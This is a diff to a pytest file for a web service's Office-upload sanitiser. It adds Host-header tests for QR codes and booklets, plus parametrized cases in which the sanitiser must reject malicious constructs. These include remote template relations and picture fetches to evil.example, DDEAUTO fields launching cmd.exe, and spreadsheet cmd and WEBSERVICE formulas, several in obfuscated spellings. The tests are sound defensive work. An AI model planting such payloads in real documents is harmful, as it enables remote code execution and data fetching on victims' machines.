@@ -38,6 +38,8 @@ EIGHT = (
 
 
 TEMPLATE = '<R><Relationship TargetMode="External" Type="http://x/relationships/attachedTemplate" Target="a"/></R>'
+SETTINGS = "word___rels__settings_dot_xml_dot_rels"
+DOCUMENT = "word__document_dot_xml"
 PICTURE = "<R><Relationship Type='http://x/relationships/image' Target='a' TargetMode='External'/></R>"
 
 
@@ -85,6 +87,23 @@ def test_the_qr_opens_the_guide(client: Client) -> None:
     assert response.content.startswith(b"<svg xmlns=")
     assert b"<script" not in response.content
     assert client.get(reverse("guide_qr", args=["XX-999"])).status_code == 404
+
+
+def test_the_qr_and_the_booklet_do_not_follow_the_host_that_somebody_asks_under(client: Client, settings: Any) -> None:
+    def qr(**asked: Any) -> Any:
+        return client.get(reverse("guide_qr", args=["NY-003"]), **asked)
+
+    plain, foreign = qr(HTTP_HOST="localhost"), qr(HTTP_HOST="localhost:4001")
+    assert plain.content == foreign.content
+    assert plain["Cache-Control"] == "private, no-cache"
+    assert qr(HTTP_HOST="localhost:4001", SERVER_PORT="4001").content != plain.content  # where we listen ourselves
+    settings.SITE_ADDRESS = "https://zwfw.example.gov.cn"
+    one = qr(HTTP_HOST="localhost")
+    assert one.content == qr(HTTP_HOST="testserver", SERVER_PORT="8000").content != plain.content
+    assert one["Cache-Control"].startswith("public")
+    for host in ("testserver", "localhost:9", "127.0.0.1:4001"):
+        body(client.get(reverse("hall_booklet", args=[GAOQIAO]), HTTP_HOST=host))
+    assert len(list((Path(settings.DATA_DIR) / "papers").glob("booklet-*.pdf"))) == 1
 
 
 def test_the_board_makes_the_eight_things_public(client: Client) -> None:
@@ -254,6 +273,66 @@ def test_what_is_no_form_is_refused(editor: Any, data: bytes, code: str) -> None
 def test_a_form_that_runs_or_fetches_is_refused(parts: dict[str, Any]) -> None:
     with pytest.raises(Invalid, match="宏"):
         clean_office(a_package(**parts), "file")
+
+
+def a_relation(kind: str, target: str = "http://evil.example/a", mode: str = ' TargetMode="External"') -> str:
+    return f'<R><Relationship Id="r" Type="http://x/relationships/{kind}" Target="{target}"{mode}/></R>'
+
+
+def a_field(*runs: str) -> str:
+    said = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
+    return f"<w:document><w:p>{said}</w:p></w:document>"
+
+
+MARKED = (
+    '<w:d><w:p><w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText></w:p>'
+    '<w:p><w:instrText>AUTO c:\\\\cmd.exe</w:instrText><w:fldChar w:fldCharType="end"/></w:p></w:d>'
+)
+
+
+@pytest.mark.parametrize("parts", [
+    {SETTINGS: '<?xml version="1.0" encoding="UTF-16"?>'.encode("utf-16") + TEMPLATE.encode("utf-16-le")},
+    {SETTINGS: '<?xml version="1.0" encoding="gbk"?><R/>'}, {SETTINGS: TEMPLATE.replace("External", "&#69;xternal")},
+    {SETTINGS: a_relation("attachedTemplate", "http://evil.example/?a>b")},
+    {SETTINGS: a_relation("attachedTemplate", "http://evil.example/relationships/hyperlink")},
+    {"word___rels__settings_dot_xml_dot_RELS": TEMPLATE}, {SETTINGS: a_relation("image", mode="")},
+    {SETTINGS: a_relation("hyperlink", "file://evil/a.exe")}, {SETTINGS: a_relation("hyperlink", "javascript:x")},
+    {SETTINGS: a_relation("x/hyperlink/attachedTemplate")}, {SETTINGS: a_relation("aFChunk", "a.mht", "")},
+    {SETTINGS: a_relation("oleObject", "a.png", "")}, {SETTINGS: a_relation("subDocument", "a.xml", "")},
+    {SETTINGS: a_relation("frame", "a.xml", "")}, {DOCUMENT: a_field("DD", 'EAUTO c:\\cmd.exe "/k calc"')},
+    {DOCUMENT: a_field("D&#68;EAUTO c:\\cmd.exe")}, {DOCUMENT: a_field('INCLUDEPICTURE "\\evil\\a.png"')},
+    {DOCUMENT: MARKED}, {DOCUMENT: '<w:p><w:fldSimple w:instr=" INCLUDETEXT http://evil/a "/></w:p>'},
+    {DOCUMENT: a_field("QUOTE 68 68 69")}, {DOCUMENT: '<w:p><w:altChunk r:id="r9"/></w:p>'},
+    {DOCUMENT: '<w:pict><v:imagedata src="http://evil/a.png"/></w:pict>'},
+    {"xl__worksheets__sheet1_dot_xml": "<c><f>cmd|'/c calc'!A1</f></c>"},
+    {"xl__worksheets__sheet1_dot_xml": '<c><f>_xlfn.WEBSERVICE("http://evil/")</f></c>'},
+    {"word__a_dot_scr": b"MZ"}, {"word__a_dot_hta": b"x"}, {"word__a_dot_rtf": b"{"}, {"word__afchunk_dot_mht": b"<"},
+    {"word__a": b"x"}, {"[Content_Types]_dot_xml": '<T><Override PartName="/word/a.png" ContentType="a+xml"/></T>'},
+    {"[Content_Types]_dot_xml": '<T><Override PartName="/word/document.xml" ContentType="a.macroEnabled+xml"/></T>'},
+])  # fmt: skip
+def test_no_spelling_of_what_runs_or_fetches_passes(parts: dict[str, Any]) -> None:
+    with pytest.raises(Invalid, match="宏"):
+        clean_office(a_package(**parts), "file")
+
+
+def test_an_honest_form_of_an_office_suite_is_left() -> None:
+    held = a_package(
+        word__document_dot_xml='<?xml version="1.0" encoding="utf-8" standalone="yes"?>'
+        + a_field("HYPERLINK ", '"http://x/"').replace("</w:p>", "<w:t>DDE 数据、INCLUDE</w:t></w:p>"),
+        word__media__image1_dot_PNG=b"x", word__media__image2_dot_emf=b"x", word__fonts__font1_dot_odttf=b"x",
+        xl__printerSettings__printerSettings1_dot_bin=b"x", xl__drawings__vmlDrawing1_dot_vml="<xml/>",
+        xl__worksheets__sheet1_dot_xml='<c><f>SUM(A1:A9)&amp;"|a!"</f></c>',
+        word___rels__document_dot_xml_dot_rels=a_relation("image", "media/image1.PNG", "")
+        + "<!-- a template it once had -->",
+    )  # fmt: skip
+    assert clean_office(held, "file")[1] == DOCX
+
+
+def test_two_parts_of_one_name_and_what_is_no_xml_are_refused() -> None:
+    with pytest.raises(Invalid, match="同名"):
+        clean_office(a_package(word__Document_dot_xml="<w/>"), "file")
+    with pytest.raises(Invalid, match="读不通"):
+        clean_office(a_package(word__styles_dot_xml="<w>"), "file")
 
 
 def test_a_link_that_one_must_press_is_left() -> None:
